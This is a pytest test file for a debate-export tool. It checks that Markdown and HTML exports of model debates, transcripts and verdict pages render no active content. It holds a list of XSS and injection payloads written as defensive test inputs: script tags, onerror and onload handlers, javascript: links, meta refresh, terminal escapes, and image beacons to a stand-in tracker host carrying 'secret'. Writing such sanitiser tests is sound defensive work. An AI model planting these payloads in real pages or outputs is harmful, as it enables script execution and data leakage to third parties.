"""The file that a reader takes along: readable on its own, whatever was said and whoever failed."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from mom_council.evals.verdict import AnswerWay, MemberLikeness, PaysVerdict
from mom_council.evals.verdict_page import as_html
from mom_council.extensions import transcript
from mom_council.records import Absence, Ballot, Status
from mom_council.tests.ui.test_panel_rows import a_run
from mom_council.ui import safe
from mom_council.ui.history import debate_in_markdown


def test_everything_that_was_said_and_voted_is_in_the_file() -> None:
    view = a_run()
    view.rounds[1].ballots = [Ballot(voter="Boris", choice="Ada", reason="It is\ncheaper.")]
    view.rounds[1].unvoted = [Absence(character="Clara", reason="timeout", stage="vote")]
    view.status = Status(council="desk", spoke=("Ada", "Boris", "Clara"), rounds=2)
    lines = debate_in_markdown("Which?", "**Tune.**", view).splitlines()
    assert lines[:3] == ["# Which?", "", "**Tune.**"]
    rounds = [line for line in lines if line.startswith("## ")]
    assert rounds == ["## Round 1", "## Round 2"]
    members = [line for line in lines if line.startswith("### ")]
    assert members == [*["### Ada (m)", "### Boris (m)", "### Clara (m)"] * 2, "### Ballots"]
    assert "- **Boris** → Ada: It is cheaper." in lines
    assert any(line.startswith("- Clara") for line in lines)
    assert lines.count("Answer: tune") == 3
    assert lines[-1] == "Answered by the council “desk” with Mixture of Models."


def test_a_long_question_stands_below_a_heading_as_it_was_asked() -> None:
    question = "Which is better?\n\n- one\n- two"
    text = debate_in_markdown(question, "Two.", a_run())
    assert text.startswith(f"# A question to the council\n\n{question}\n\n## Answer\n\nTwo.\n\n")


# What others wrote, shown and exported: nothing acts, nothing is loaded.

_AT = "//tracker.example/seen?q=secret"
ATTACKS = (
    f"<script src='https:{_AT}'></script>",
    f"<img src='https:{_AT}' onerror=alert(1)>",
    f"<ImG\nsrc=https:{_AT}>",
    f"![so](https:{_AT})",
    f"![a [b] c\nd](<https:{_AT}> 'title')",
    f"![so][1] and ![1]\n\n[1]: https:{_AT}",
    f"![[https:{_AT}]]",
    f"[![so](https:{_AT})](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click]( JaVa&#115;cript:alert(1))",
    "[click][1]\n\n[1]: vbscript:alert(1)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    f"<link rel=stylesheet href=https:{_AT}>",
    f"<style>@import 'https:{_AT}'</style>",
    f"<!-- --><iframe src='https:{_AT}'></iframe>",
    f"<!--\n```\n-->\n![so](https:{_AT})",
    f"<div>\n```\n</div>\n\n![so](https:{_AT})",
    f"- ```\n  code\n  ```\n\n![so](https:{_AT})",
    f"- a\n  ```\n![so](https:{_AT})",
    f"```a`b\n![so](https:{_AT})",
    f"\\` ![so](https:{_AT}) `",
    f"`a\nb` ![so](https:{_AT}) `c`",
    f"$ ` $ ![so](https:{_AT}) `",
    f"```mermaid\nflowchart TD\n A[<img src='https:{_AT}'>]\n click A href 'javascript:a()'\n```",
    f"$\\includegraphics{{https:{_AT}}}$ $\\href{{javascript:alert(1)}}{{x}}$",
    f"<svg/onload=alert(1)><use href='https:{_AT}#x'/></svg>",
    f"<meta http-equiv=refresh content='0;url=https:{_AT}'>",
    "\x1b]8;;https://tracker.example\x07it\x1b]8;;\x07 \x1b[2J\x9b31m \u202etxt.exe\u2066 \ud800",
    f"---\ncss: https:{_AT}\n---\n</pre></section><img src=https:{_AT}>",
)
_NO_TEXT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def _acts_in_markdown(text: str) -> list[str]:
    """What a reader of Markdown would load or run: pictures, tags, links that are no addresses."""
    reader = MarkdownIt("commonmark", {"html": True})
    reader.validateLink = lambda url: True  # type: ignore[method-assign]
    tokens = [one for block in reader.parse(text) for one in (block, *(block.children or ()))]
    acts = [one.content for one in tokens if one.type in ("image", "html_block", "html_inline")]
    acts += [one.info for one in tokens if one.type == "fence" and one.info != "text"]
    links = [str(one.attrs.get("href")) for one in tokens if one.type == "link_open"]
    acts += [link for link in links if not link.startswith(("http://", "https://"))]
    return acts + _NO_TEXT.findall(text)


def _acts_in_html(page: str, own: frozenset[str]) -> list[str]:
    """Tags that are not ours, attributes that run or load, and signs that act."""
    acts: list[str] = _NO_TEXT.findall(page)

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in own:
                acts.append(tag)
            loads = ("on", "src", "href", "style")
            acts.extend(name for name, _ in attrs if name.startswith(loads))

        def handle_comment(self, data: str) -> None:
            acts.append(data)

    Reader(convert_charrefs=True).feed(page)
    return acts


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_in_an_exported_debate(attack: str) -> None:
    view = a_run()
    seat = next(iter(view.rounds[0].seats.values()))
    seat.text, seat.model = attack, attack
    seat.speaker = seat.speaker.model_copy(update={"name": attack})
    view.rounds[1].ballots = [Ballot(voter=attack, choice=attack, reason=attack)]
    view.rounds[1].unvoted = [Absence(character=attack, reason="timeout", stage="vote")]
    view.status = Status(council=attack, spoke=(attack,), rounds=2, notes=(attack,))
    for question in (attack, " ".join(attack.split())):
        assert _acts_in_markdown(debate_in_markdown(question, attack, view)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_in_a_transcript(attack: str) -> None:
    turn: dict[str, Any] = {
        "time": "2026-11-27T12:00:00",
        "question": attack,
        "answer": attack,
        "proposals": [{"character": attack, "round": 1, "text": attack}],
        "status": {"absent": [{"character": attack, "reason": "timeout"}], "notes": [attack]},
    }
    assert _acts_in_markdown(transcript.markdown(turn)) == []
    own = frozenset(("section", "p", "b", "div", "ul", "li"))
    assert _acts_in_html(transcript.as_html(turn), own) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_picture_is_left_in_what_the_page_shows(attack: str) -> None:
    reader = MarkdownIt("commonmark", {"html": True})
    for text in (attack, f"Then:\n{attack}\n\nand `more` of it\n{attack}"):
        tokens = reader.parse(safe.markdown(text))
        kinds = {one.type for block in tokens for one in block.children or ()}
        assert "image" not in kinds
    assert "<" not in safe.plain(attack)
    assert "![" not in safe.inline(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_in_the_page_of_a_verdict(attack: str) -> None:
    member = MemberLikeness(member=attack, same=3, questions=4, differs_at_most=0.5)
    verdict = PaysVerdict(
        council=attack,
        questions=4,
        scored=0,
        cannot_tell=None,
        advice="member",
        member=attack,
        ways=(AnswerWay(name=attack, label=attack, calls=1, seconds=1, slow=1),),
        notes=(attack,),
        alike=(member,),
    )
    page = as_html(verdict)
    page.encode("utf-8")
    body = page.partition("</style>")[2]
    own = frozenset(["body", "p", "h1", "h2", "ul", "li", "table", "tr", "th", "td"])
    assert _acts_in_html(body, own) == []


def test_code_and_harmless_words_are_exported_as_they_were_written() -> None:
    answer = (
        "Math `<div>` and **1 < 2**:\n\n```html\n<img src='a.png'>\n```\n\n[so](https://a.example)!"
    )
    assert f"\n\n{answer}\n\n" in debate_in_markdown("Which?", answer, a_run())
